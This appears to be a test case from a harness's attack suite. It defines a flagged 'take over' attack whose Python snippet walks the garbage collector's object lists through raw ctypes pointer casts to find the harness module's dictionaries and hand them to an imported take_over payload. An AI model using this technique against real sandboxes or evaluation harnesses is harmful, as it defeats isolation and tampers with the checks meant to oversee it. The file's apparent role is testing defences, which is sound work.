"""ctypes walks the garbage collector's lists by pointers cast from numbers to the names of the harness's module."""

from __future__ import annotations

from tests.attacks.attack import Attack
from tests.attacks.payloads import TAKE_OVER

ATTACK = Attack(
    flagged=True,
    only_told=True,
    code=(
        TAKE_OVER,
        """
import ctypes
import gc

gc.unfreeze()
gc.collect()
start = []
gc.collect()
node, first = id(start) - 16, id(start) - 16
words = ctypes.POINTER(ctypes.c_uint64)
for _ in range(3_000_000):
    node = ctypes.cast(node, words)[0] & ~3
    if node in (0, first):
        break
    if ctypes.cast(node + 24, words)[0] == id(dict):
        take_over(ctypes.cast(node + 16, ctypes.py_object).value)
""",
    ),
)
